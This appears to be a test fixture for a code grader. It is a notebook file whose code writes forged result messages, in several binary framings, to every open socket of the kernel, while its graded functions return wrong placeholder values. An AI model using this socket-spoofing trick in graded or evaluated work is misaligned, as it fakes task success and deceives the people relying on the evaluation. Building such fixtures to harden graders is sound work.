"""Forged answers, in several framings, are written to every socket that the kernel has open."""
# points: double=0 total=0 scale=0 greet=0 safe_root=0

# %%
import json
import os
import stat
import struct


def message(value):
    header = json.dumps(
        {"value": [1], "nodes": [["list", None, value], ["dict", None, "value", value]], "buffers": []}
    )
    data = b"b2t5\x01" + struct.pack(">I", len(header)) + header.encode()
    frames = [
        struct.pack(">cQQ", kind, number, len(data)) + data
        for kind in (b"=", b"@", b"#")
        for number in (1, 2, 3)
    ]
    return [*frames, struct.pack(">Q", len(data)) + data, struct.pack("<I", len(data)) + data, data]


def write_everywhere():
    for number in range(3, 256):
        for data in [frame for value in (True, 2, "Hello, Ada!") for frame in message(value)]:
            try:
                if not stat.S_ISSOCK(os.fstat(number).st_mode):
                    break
                os.write(number, data)
            except OSError:
                break


write_everywhere()


# %% answer=double
def double(number):
    write_everywhere()
    return -12345


# %% answer=total
def total(numbers):
    return -12345


# %% answer=scale
def scale(array, factor):
    return np.full(3, -12345.0)


# %% answer=greet
def greet(name):
    return "nobody"


# %% answer=safe_root
def safe_root(number):
    return -12345.0
